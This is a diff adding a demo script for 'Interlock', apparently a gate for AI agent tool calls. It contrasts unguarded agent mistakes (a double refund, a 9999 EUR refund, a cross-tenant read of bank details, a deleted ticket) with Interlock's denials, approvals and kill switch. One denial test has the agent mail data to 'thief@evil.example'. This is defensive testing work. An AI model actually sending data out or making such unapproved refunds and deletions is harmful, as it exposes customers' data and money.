@@ -1,0 +1,225 @@
+"""The story for `make demo`: what an agent did without Interlock, and what it does with it. Exits 0 only if every expectation held."""
+
+import asyncio
+import json
+import shutil
+import sys
+import time
+from pathlib import Path
+
+from rich.console import Console
+from rich.panel import Panel
+
+from examples.acme.interlocked import Interlocked, client
+from examples.acme.world import World
+
+console = Console(soft_wrap=True, highlight=False)
+FOLDER = Path(".demo")
+
+
+class Expectations:
+    """Counts what held. A demo that only prints proves nothing."""
+
+    def __init__(self):
+        self.held, self.failed = 0, []
+
+    def that(self, holds, sentence):
+        if holds:
+            self.held += 1
+            console.print(f"   [green]✓[/] {sentence}")
+        else:
+            self.failed.append(sentence)
+            console.print(f"   [bold red]✗ {sentence}[/]")
+
+
+expect = Expectations()
+
+
+def scene(title):
+    console.print()
+    console.rule(f"[bold]{title}", align="left")
+
+
+def said(result):
+    return " ".join(block.text for block in result.content if block.type == "text")
+
+
+def decision(result):
+    return (result.meta or {}).get("interlock/decision", {})
+
+
+async def tell(connected, name, **arguments):
+    """Make a call and show it."""
+    console.print(f"   [cyan]agent →[/] {name} {json.dumps(arguments)}")
+    result = await connected.call_tool(name, arguments)
+    style = "red" if result.is_error else "white"
+    console.print(f"   [{style}]      ← {said(result)[:300]}[/]")
+    return result
+
+
+async def without(world):
+    scene("Without Interlock: the agent holds the keys")
+    url, key = world.url("payments"), world.tokens["ACME_PAYMENTS_TOKEN"]
+    await world.execute("UPDATE lost_answer SET remaining = 1")
+    async with client(url, key, "legacy") as payments:
+        for attempt in (1, 2):
+            console.print(f"   [cyan]agent →[/] refund A1 20.00, attempt {attempt}")
+            try:
+                await payments.call_tool("refund", {"order_id": "A1", "amount": "20.00", "currency": "EUR"})
+            except Exception:  # noqa: BLE001  # the lost answer, in whatever shape the SDK reports it
+                console.print("   [red]      ← the connection broke[/]")
+        await payments.call_tool("refund", {"order_id": "A2", "amount": "9999.00", "currency": "EUR"})
+    async with client(world.url("customers"), world.tokens["ACME_CUSTOMERS_TOKEN"], "legacy") as customers:
+        record = await customers.call_tool("get", {"customer_id": 9})
+    async with client(world.url("tickets"), world.tokens["ACME_TICKETS_TOKEN"], "legacy") as tickets:
+        await tickets.call_tool("delete", {"ticket_id": 2})
+    paid = await world.count("SELECT count(*) FROM refund WHERE order_id = 'A1'")
+    expect.that(paid == 2, f"F6: the retried refund was paid {paid} times")
+    high = await world.count("SELECT sum(amount) FROM refund WHERE order_id = 'A2'")
+    expect.that(high == 9999, f"F5: a slip of the model paid {high} EUR back for an order of 300 EUR")
+    expect.that("DE8937" in said(record), "F2: ana's agent read another tenant's customer, bank account included")
+    gone = await world.count("SELECT count(*) FROM ticket WHERE id = 2")
+    expect.that(gone == 0, "F5: a customer's ticket is gone for good")
+    await world.execute("DELETE FROM refund")
+    await world.execute(
+        "INSERT INTO ticket (id, subject, body) OVERRIDING SYSTEM VALUE VALUES (2, 'Where is my invoice?', 'Order A2.')"
+    )
+
+
+async def useful_work(bot, world):
+    scene("With Interlock: useful work flows")
+    names = [tool.name for tool in (await bot.list_tools()).tools]
+    console.print(f"   the agent sees: {', '.join(names)}")
+    expect.that("tickets.delete" not in names and "config.set" not in names, "it sees only what it may use here")
+    found = await tell(bot, "tickets.search", words="parcel")
+    expect.that(not found.is_error and "broken" in said(found), "it finds the ticket")
+    await tell(bot, "tickets.comment", ticket_id=1, text="We are on it.")
+    comments = await world.count("SELECT count(*) FROM comment WHERE ticket_id = 1")
+    expect.that(comments == 1, "its comment is in the ticket")
+    await tell(bot, "mail.send", to="nora@customers.example", subject="Your parcel", text="We are on it.")
+    mails = await world.count("SELECT count(*) FROM mail WHERE recipient = 'nora@customers.example'")
+    expect.that(mails == 1, "the mail arrived at a real SMTP server")
+
+
+async def users_limits(bot, bos_bot):
+    scene("The user's own limits bind the agent (F2)")
+    seven = await tell(bot, "customers.get", customer_id=7)
+    expect.that(not seven.is_error and "Nora" in said(seven), "customer 7 is of an account ana manages: yes")
+    hidden = not any(secret in said(seven) for secret in ("NL91", "nora@", "555 0107"))
+    expect.that(hidden, "her bank account, mail and phone were taken out, from the structure and from the text")
+    eight = await tell(bot, "customers.get", customer_id=8)
+    expect.that(decision(eight).get("code") == "user_not_permitted", "customer 8 is of another account: no")
+    listed = await tell(bot, "customers.search", letters="u")
+    expect.that("globex" not in said(listed).lower(), "another tenant's customers are not in the list")
+    nine = await tell(bos_bot, "customers.get", customer_id=7)
+    expect.that(decision(nine).get("code") == "user_not_permitted", "the same agent for a user of another tenant: no")
+
+
+async def denials(bot, ops, world):
+    scene("What is not granted is denied, and says why")
+    out = await tell(bot, "mail.send", to="thief@evil.example", subject="data", text="here it is")
+    expect.that(decision(out).get("outcome") == "denied", "mail goes to customers only")
+    gone = await tell(ops, "tickets.delete", ticket_id=1)
+    expect.that(decision(gone).get("question") == 7, "nothing is deleted in production, whoever asks")
+    expect.that(await world.count("SELECT count(*) FROM ticket WHERE id = 1") == 1, "the ticket is still there")
+    odd = await tell(bot, "payments.refund", order_id="A1", amount="20.00", currency="EUR", to_account="me")
+    expect.that(decision(odd).get("outcome") == "invalid", "an argument nobody declared is refused")
+
+
+async def refunds(bot, world):
+    scene("A lost answer, a retry, one payment (F6)")
+    await world.execute("UPDATE lost_answer SET remaining = 1")
+    first = await tell(bot, "payments.refund", order_id="A1", amount="20.00", currency="EUR")
+    expect.that(decision(first).get("effect") == "unknown", "the answer got lost, and the agent is told that nobody knows")
+    again = await tell(bot, "payments.refund", order_id="A1", amount="20.00", currency="EUR")
+    expect.that(decision(again).get("outcome") == "in_doubt", "it tries again: the call is in doubt, so it is not sent again")
+    paid = await world.count("SELECT count(*) FROM refund WHERE order_id = 'A1'")
+    expect.that(paid == 1, f"the refund was paid {paid} time")
+    await tell(bot, "payments.refund", order_id="A3", amount="10.00", currency="EUR")
+    replay = await tell(bot, "payments.refund", order_id="A3", amount="10.00", currency="EUR")
+    expect.that("interlock/replayed" in (replay.meta or {}), "a repeated refund is answered from the record, and says so")
+    expect.that(await world.count("SELECT count(*) FROM refund WHERE order_id = 'A3'") == 1, "and was paid once")
+
+    scene("Limits stop, and people decide (F5)")
+    ask = await tell(bot, "payments.refund", order_id="A4", amount="80.00", currency="EUR")
+    expect.that(decision(ask).get("outcome") == "needs_approval", "80 EUR wait for a support lead")
+    much = await tell(bot, "payments.refund", order_id="A4", amount="9999.00", currency="EUR")
+    expect.that(decision(much).get("code") == "arguments_not_permitted", "9999 EUR are refused outright")
+    expect.that(await world.count("SELECT count(*) FROM refund WHERE order_id = 'A4'") == 0, "nothing was paid for A4")
+
+
+async def kill_switch(bot, interlock, world):
+    scene("The kill switch")
+    out, _ = interlock.person("kill", "agent:support-bot", "--reason", "odd behaviour", user="oki")
+    console.print(f"   [yellow]operator →[/] interlock kill agent:support-bot\n   {out.strip()}")
+    before = await world.count("SELECT count(*) FROM comment")
+    stopped = await tell(bot, "tickets.comment", ticket_id=1, text="still here?")
+    expect.that(decision(stopped).get("outcome") == "halted", "the next call is stopped")
+    expect.that(await world.count("SELECT count(*) FROM comment") == before, "and nothing was written")
+    _, refused = interlock.person("resume", "agent:support-bot", "--reason", "fine", user="oki", check=False)
+    expect.that(refused == 1, "the operator may stop, and may not resume: that is security's to do")
+    interlock.person("resume", "agent:support-bot", "--reason", "looked into it", user="sam")
+    after = await tell(bot, "tickets.comment", ticket_id=1, text="Back again.")
+    expect.that(not after.is_error, "after security has resumed it, the agent works again")
+
+
+def record(interlock, session):
+    scene("Why did it do that?")
+    out, _ = interlock.run("trace", "show", session["session_id"])
+    lines = out.strip().splitlines()
+    console.print("\n".join(f"   {line[:220]}" for line in lines), markup=False)
+    story = "\n".join(lines)
+    expect.that(
+        "denied at question 3" in story and "needs approval: refunds" in story, "the trace tells which policy said what"
+    )
+    expect.that("NL91" not in story, "and does not tell what was taken out")
+    interlock.run("audit", "checkpoint")
+    report, code = interlock.run("audit", "verify")
+    console.print(f"   {report.strip()}", markup=False)
+    expect.that(code == 0, "the ledger is intact, by a verifier that shares no code with the writer")
+
+
+async def story():
+    shutil.rmtree(FOLDER / "state", ignore_errors=True)
+    started = time.monotonic()
+    world = World(FOLDER / f"world-{time.time_ns()}")
+    await world.start()
+    interlock = None
+    try:
+        await without(world)
+        interlock = Interlocked(FOLDER / f"state-{time.time_ns()}", world)
+        console.print(f"\n   interlock up → {interlock.ready['mcp']}")
+        session = interlock.token("support-bot", "ana", "customer-support")
+        bos = interlock.token("support-bot", "bo", "customer-support")
+        operations = interlock.token("ops-bot", "oki", "operations")
+        async with (
+            interlock.client(session["access_token"]) as bot,
+            interlock.client(bos["access_token"], "legacy") as bos_bot,
+            interlock.client(operations["access_token"]) as ops,
+        ):
+            await useful_work(bot, world)
+            await users_limits(bot, bos_bot)
+            await denials(bot, ops, world)
+            await refunds(bot, world)
+            await kill_switch(bot, interlock, world)
+        record(interlock, session)
+    finally:
+        if interlock is not None:
+            interlock.stop()
+        world.stop()
+    return time.monotonic() - started
+
+
+def main():
+    console.print(Panel("[bold]Interlock[/]: the model proposes, the control plane decides, tools execute only through gates."))
+    seconds = asyncio.run(story())
+    console.print()
+    if expect.failed:
+        console.print(f"[bold red]{len(expect.failed)} expectations failed:[/] {'; '.join(expect.failed)}")
+        return 1
+    console.print(f"[bold green]All {expect.held} expectations held[/], in {seconds:.0f} seconds.")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
